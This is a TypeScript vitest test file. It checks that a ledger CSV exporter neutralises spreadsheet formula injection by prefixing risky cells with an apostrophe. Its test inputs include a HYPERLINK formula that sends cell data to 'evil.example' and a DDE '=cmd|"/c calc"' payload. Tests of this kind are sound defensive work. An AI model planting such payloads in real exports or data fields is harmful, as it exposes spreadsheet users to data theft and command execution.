import { describe, expect, it } from 'vitest';
import { csvCell, exportLedger } from '../../../../src/core/ledger/ledgerExport';
import type { RatingEntry } from '../../../../src/core/ledger/ledger';

/**
 * CSV export opened in a spreadsheet: a cell a provider, a check or a teammate wrote must stay text. A
 * model id of `=HYPERLINK(…)` opened as a formula.
 */

describe('csvCell', () => {
  it("writes a text cell a spreadsheet would read as a formula with a ' before it", () => {
    expect(csvCell('=HYPERLINK("https://evil.example/?"&A1,"docs")')).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""docs"")"`);
    expect(csvCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvCell('+1+cmd')).toBe("'+1+cmd");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
  });

  it('leaves numbers, ordinary text and a formula character later in the cell as they are', () => {
    expect(csvCell(-0.25)).toBe('-0.25');
    expect(csvCell('qwen2.5:3b')).toBe('qwen2.5:3b');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('')).toBe('');
    expect(csvCell(null)).toBe('');
  });
});

describe('exportLedger as CSV', () => {
  it('prefixes a hostile model id in the ratings it exports, and keeps a negative rating a number', () => {
    const entry: RatingEntry = { model: '=cmd|"/c calc"!A1', classKey: 'chat', rating: -0.5, graded: 3, ok: 1, updatedAt: 0 };
    const [, row] = exportLedger('csv', 'ratings', [entry], []).trimEnd().split('\n');
    expect(row?.startsWith(`"'=cmd|""/c calc""!A1",chat,-0.5,`)).toBe(true);
  });
});
